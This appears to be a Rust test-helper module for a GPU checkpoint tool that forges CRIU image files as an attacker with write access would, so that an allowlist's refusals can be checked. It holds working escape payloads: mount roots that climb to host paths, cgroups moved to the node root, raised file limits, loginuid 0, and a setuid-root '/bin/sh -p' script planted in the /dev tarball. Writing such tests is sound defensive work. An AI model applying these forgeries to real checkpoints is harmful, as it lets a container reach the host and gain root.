//! Forgeries of a real checkpoint's CRIU images that the allowlist model refuses (issue 28:
//! mount roots, cgroup.img, rlimits, loginuid, the /dev tmpfs tarball), made with the types
//! generated from CRIU's own `.proto` files and resealed as an attacker with write access to
//! the checkpoint would.

use std::fs;
use std::io::Read;
use std::path::Path;

use anyhow::{ensure, Context, Result};
use gpusnap_criu_images::forge;
use gpusnap_criu_images::proto::{CgroupEntry, CoreEntry, MntEntry};
use gpusnap_criu_images::Kind;

use crate::privilege::reseal;

/// The names of `dir`'s files that start with `prefix` and end with `suffix`.
fn named(dir: &Path, prefix: &str, suffix: &str) -> Result<Vec<String>> {
    let mut out = Vec::new();
    for e in fs::read_dir(dir)? {
        let n = e?.file_name().to_string_lossy().into_owned();
        if n.starts_with(prefix) && n.ends_with(suffix) {
            out.push(n);
        }
    }
    out.sort();
    Ok(out)
}

/// Edits every mount of every `mountpoints-*.img` with `edit(all mounts, mount)`; returns how
/// many it changed (`edit` says).
pub fn forge_mounts(
    dir: &Path,
    edit: impl Fn(&[MntEntry], &mut MntEntry) -> bool,
) -> Result<usize> {
    let mut n = 0;
    let mut seen = Vec::new();
    for name in named(dir, "mountpoints-", ".img")? {
        let path = dir.join(&name);
        let bytes = fs::read(&path)?;
        let forged =
            forge::edit_entries(&bytes, Kind::Mountpoints, |mounts: &mut Vec<MntEntry>| {
                let all = mounts.clone();
                seen.extend(all.iter().map(|m| {
                    format!(
                        "{} (type {}, root {})",
                        String::from_utf8_lossy(&m.mountpoint),
                        m.fstype,
                        String::from_utf8_lossy(&m.root)
                    )
                }));
                for m in mounts.iter_mut() {
                    if edit(&all, m) {
                        n += 1;
                    }
                }
                Ok(())
            })
            .with_context(|| format!("forging {name}"))?;
        fs::write(&path, forged)?;
    }
    ensure!(
        n > 0,
        "no mount of {} was changed; its mounts: {}",
        dir.display(),
        seen.join(", ")
    );
    Ok(n)
}

/// `/dev/shm` made a bind of the `/dev` tmpfs whose root climbs to `host_path` (finding 1):
/// CRIU would bind-mount the node's `host_path` at the container's `/dev/shm`. (Where the
/// runtime gave `/dev/shm` as an external mount, as CRI does from the pod, the forgery makes
/// it internal: CRIU ignores an external mount's root.)
pub fn shm_binds_host_path(dir: &Path, host_path: &str) -> Result<usize> {
    let climb = format!("{}{}", "/..".repeat(16), host_path);
    let n = forge_mounts(dir, |all, m| {
        let Some(dev) = all.iter().find(|d| d.mountpoint == b"/dev") else {
            return false;
        };
        if m.mountpoint != b"/dev/shm" {
            return false;
        }
        m.root_dev = dev.root_dev;
        m.root = climb.as_bytes().to_vec();
        m.fstype = dev.fstype;
        m.ext_key = None;
        m.ext_mount = None;
        true
    })?;
    reseal(dir)?;
    Ok(n)
}

/// The read-only variant: a masked directory (`/sys/firmware`, else another runc masks with a
/// read-only tmpfs, else the tmpfs at `/sys/fs/cgroup`) made a bind of the `/dev` tmpfs
/// climbing to `host_path`.
pub fn firmware_binds_host_path(dir: &Path, host_path: &str) -> Result<usize> {
    let climb = format!("{}{}", "/..".repeat(16), host_path);
    // A CRI container of the test nodes has no masked path: its /sys/fs/cgroup tmpfs is the
    // read-only tmpfs there.
    let masked: [&[u8]; 4] = [
        b"/sys/firmware",
        b"/proc/acpi",
        b"/proc/scsi",
        b"/sys/fs/cgroup",
    ];
    let n = forge_mounts(dir, |all, m| {
        let Some(dev) = all.iter().find(|d| d.mountpoint == b"/dev") else {
            return false;
        };
        // The first masked directory of the list that the image has.
        let Some(target) = masked
            .iter()
            .find(|p| all.iter().any(|o| o.mountpoint == **p && o.root == b"/"))
        else {
            return false;
        };
        if m.mountpoint != *target {
            return false;
        }
        m.root_dev = dev.root_dev;
        m.root = climb.as_bytes().to_vec();
        true
    })?;
    reseal(dir)?;
    Ok(n)
}

/// `/dev/shm` marked deleted: CRIU would create and remove the path its root names.
pub fn shm_deleted(dir: &Path) -> Result<usize> {
    let n = forge_mounts(dir, |_, m| {
        if m.mountpoint == b"/dev/shm" {
            m.deleted = Some(true);
            true
        } else {
            false
        }
    })?;
    reseal(dir)?;
    Ok(n)
}

/// Every member of every cgroup set at `/` (finding 2): not rewritten by runc's cgroup root,
/// the tasks would land in the node's root cgroups.
pub fn cgroups_at_root(dir: &Path) -> Result<usize> {
    let path = dir.join("cgroup.img");
    let bytes = fs::read(&path).context("cgroup.img")?;
    let mut n = 0;
    let forged = forge::edit_entry(&bytes, Kind::Cgroup, |cg: &mut CgroupEntry| {
        for set in &mut cg.sets {
            for m in &mut set.ctls {
                m.path = b"/".to_vec();
                n += 1;
            }
        }
    })?;
    ensure!(n > 0, "cgroup.img holds no set member");
    fs::write(&path, forged)?;
    reseal(dir)?;
    Ok(n)
}

/// Edits the task state (`tc`) of every main thread's core.
pub fn forge_task_cores(dir: &Path, edit: impl Fn(&mut CoreEntry)) -> Result<usize> {
    let mut n = 0;
    for name in named(dir, "core-", ".img")? {
        let path = dir.join(&name);
        let bytes = fs::read(&path)?;
        let forged = forge::edit_entry(&bytes, Kind::Core, |c: &mut CoreEntry| {
            if c.tc.is_some() {
                edit(c);
                n += 1;
            }
        })?;
        fs::write(&path, forged)?;
    }
    ensure!(n > 0, "no task core in {}", dir.display());
    reseal(dir)?;
    Ok(n)
}

/// RLIMIT_NOFILE raised (soft and hard) in every task to `to`, or one above the dumped hard
/// limit where that is higher: the container inherits the runtime's hard limit when its spec
/// sets none, as a CRI container does (finding 9).
pub fn nofile_raised(dir: &Path, to: u64) -> Result<usize> {
    forge_task_cores(dir, |c| {
        if let Some(r) =
            c.tc.as_mut()
                .and_then(|t| t.rlimits.as_mut())
                .and_then(|r| r.rlimits.get_mut(7))
        {
            let raised = to.max(r.max.saturating_add(1));
            r.cur = raised;
            r.max = raised;
        }
    })
}

/// loginuid 0 in every task (finding 9).
pub fn loginuid_root(dir: &Path) -> Result<usize> {
    forge_task_cores(dir, |c| {
        if let Some(tc) = c.tc.as_mut() {
            tc.loginuid = Some(0);
        }
    })
}

/// One member to add to the `/dev` tmpfs tarball.
pub enum DevMember {
    /// A setuid-root executable file.
    SetuidRoot(&'static str),
    /// A block device node with its numbers.
    Block(&'static str, u32, u32),
}

/// The `/dev` tmpfs tarball (`tmpfs-dev-<n>.tar.gz.img` of the mount at `/dev`) with `add`
/// appended after its honest entries (finding 9).
pub fn dev_tarball_with(dir: &Path, add: DevMember) -> Result<usize> {
    let dev = {
        let mut found = None;
        for name in named(dir, "mountpoints-", ".img")? {
            let mounts: Vec<MntEntry> = gpusnap_criu_images::image::decode_entries(
                &name,
                &fs::read(dir.join(&name))?,
                Kind::Mountpoints,
                &Default::default(),
            )?;
            if let Some(m) = mounts
                .iter()
                .find(|m| m.mountpoint == b"/dev" && m.root == b"/")
            {
                found = Some(m.root_dev);
            }
        }
        found.context("no /dev tmpfs among the mounts")?
    };
    let name = format!("tmpfs-dev-{dev}.tar.gz.img");
    let path = dir.join(&name);
    let mut honest = Vec::new();
    flate2::read::GzDecoder::new(fs::File::open(&path).with_context(|| name.clone())?)
        .read_to_end(&mut honest)?;
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut b = tar::Builder::new(gz);
    let mut archive = tar::Archive::new(&honest[..]);
    for e in archive.entries()? {
        let mut e = e?;
        let header = e.header().clone();
        let mut data = Vec::new();
        e.read_to_end(&mut data)?;
        b.append(&header, &data[..])?;
    }
    let mut h = tar::Header::new_gnu();
    h.set_uid(0);
    h.set_gid(0);
    h.set_size(0);
    match add {
        DevMember::SetuidRoot(n) => {
            h.set_entry_type(tar::EntryType::Regular);
            h.set_mode(0o4755);
            let body = b"#!/bin/sh\nexec /bin/sh -p\n";
            h.set_size(body.len() as u64);
            b.append_data(&mut h, format!("./{n}"), &body[..])?;
        }
        DevMember::Block(n, major, minor) => {
            h.set_entry_type(tar::EntryType::Block);
            h.set_mode(0o660);
            h.set_device_major(major)?;
            h.set_device_minor(minor)?;
            b.append_data(&mut h, format!("./{n}"), std::io::empty())?;
        }
    }
    fs::write(&path, b.into_inner()?.finish()?)?;
    reseal(dir)?;
    Ok(1)
}
